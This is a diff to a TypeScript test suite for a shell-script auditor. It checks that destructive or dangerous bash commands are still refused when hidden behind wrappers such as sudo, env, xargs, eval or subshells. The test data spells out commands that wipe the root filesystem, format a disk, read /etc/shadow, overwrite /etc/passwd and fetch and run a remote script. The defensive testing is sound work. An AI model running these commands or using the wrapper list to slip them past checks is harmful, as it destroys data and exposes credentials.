@@ -10,7 +10,9 @@ import { readTable } from './table.ts'
 const everyday = readTable('./everyday.txt')
 const flagged = readTable('./flagged.txt')
 const refused = readTable('./refused.txt')
-const all = [...everyday, ...flagged, ...refused]
+const spelled = readTable('./spelled.txt')
+const projects = readTable('./from-projects.txt')
+const all = [...everyday, ...flagged, ...refused, ...spelled, ...projects]
 
 test('§19 audit 1: the table has at least 150 scripts, 80 of them everyday ones that pass, each once', () => {
   expect(new Set(all.map(({ script }) => script)).size).toBe(all.length)
@@ -32,6 +34,128 @@ test.each(flagged)('§19 audit 1, flagged by $rule: $script', ({ rule, script })
 test.each(refused)('§19 audit 1, refused by $rule: $script', ({ rule, script }) => {
   const refusing = auditScript(script).filter((each) => bashRules[each.rule].verdict === 'refuse')
   expect(refusing.map((each) => each.rule)).toContain(rule)
+})
+
+/**
+ * The same things in other spellings, and everyday ones that look like them; and what stands in workflows, Makefiles, recipes of images,
+ * scripts of packages and the manual of bash. Written from the rules before the audit read any of them.
+ */
+test.each([...spelled, ...projects])('of others, $verdict $rule: $script', (expected) => {
+  const { verdict, rule, script } = expected
+  const found = auditScript(script).map((each) => each.rule)
+  const refusing = found.filter((each) => bashRules[each].verdict === 'refuse')
+  const judged = refusing.length > 0 ? 'refuse' : found.length > 0 ? 'flag' : 'pass'
+  expect([judged, ...found]).toEqual(
+    expect.arrayContaining(rule === '' ? [verdict] : [verdict, rule]),
+  )
+})
+
+const wrappers = [
+  'env',
+  'env -i A=b',
+  'nohup',
+  'exec',
+  'exec -a x',
+  'command',
+  'builtin',
+  'nice -n 5',
+  'ionice -c 3',
+  'stdbuf -oL',
+  'setsid',
+  'timeout 10',
+  'time',
+  'sudo',
+  'sudo -u a --',
+  'sudo -i',
+  'doas',
+  'busybox',
+  'flock /tmp/l',
+  'strace -f -o log',
+  'ltrace -f',
+  'unshare -r',
+  'nsenter -t 1 -m',
+  'setpriv --reuid 1',
+  'taskset 1',
+  'chrt -f 5',
+  'prlimit --nproc=1',
+  'setarch -R',
+  'fakeroot',
+  'firejail',
+  'xvfb-run -a',
+  'dbus-run-session --',
+  'gosu nobody',
+  'su-exec nobody',
+  'tini --',
+  'pkexec',
+  'runuser -u a --',
+  'proot',
+  'systemd-run --user',
+  'valgrind',
+  'perf stat',
+  'unbuffer',
+  'chronic',
+  'eatmydata',
+  'torsocks',
+  'entr -r',
+  'poetry run',
+  'npm exec --',
+  'bundle exec',
+  'watch -n 1',
+  'parallel',
+  'chroot /mnt',
+  'coproc',
+  '! time',
+  'xargs',
+  'xargs -0 -I{}',
+  'xargs -i',
+  'find . -exec',
+  'find . -ok',
+  'fd . -x',
+  'eval',
+  'x=1',
+  'if true; then',
+  'for i in 1; do',
+  'f() {',
+  'case x in x)',
+  '(',
+  '{',
+  'echo $(',
+  'echo `',
+  'cat <(',
+]
+const closers: Readonly<Record<string, string>> = {
+  'if true; then': '; fi',
+  'for i in 1; do': '; done',
+  'f() {': '; }; f',
+  'case x in x)': ';; esac',
+  '(': ')',
+  '{': '; }',
+  'echo $(': ')',
+  'echo `': '`',
+  'cat <(': ')',
+  'find . -exec': ' \\;',
+  'find . -ok': ' \\;',
+}
+
+test.each(wrappers)('what is refused by itself is refused behind %s', (wrapper) => {
+  const scripts: readonly (readonly [string, string])[] = [
+    ['rm -rf /', 'vital_removal'],
+    ['mkfs.ext4 disk', 'machine'],
+    ['cat /etc/shadow', 'secrets'],
+    ['tee /etc/passwd', 'protected_place'],
+    ["bash -c 'rm -rf /'", 'vital_removal'],
+    ['bash -c "$(curl -s https://x.example)"', 'downloaded_program'],
+    ['chmod -R 777 /', 'vital_mode'],
+  ]
+  for (const [script, rule] of scripts) {
+    // It makes one text of its words: then `rm` is all that `bash -c` is given.
+    if (/^(?:watch|parallel|eval)/.test(wrapper) && script.startsWith("bash -c '")) continue
+    const whole = `${wrapper} ${script}${closers[wrapper] ?? ''}`
+    expect([whole, auditScript(whole).map((each) => each.rule)]).toEqual([
+      whole,
+      expect.arrayContaining([rule]),
+    ])
+  }
 })
 
 test('every rule that looks at a script has a row in the table', () => {
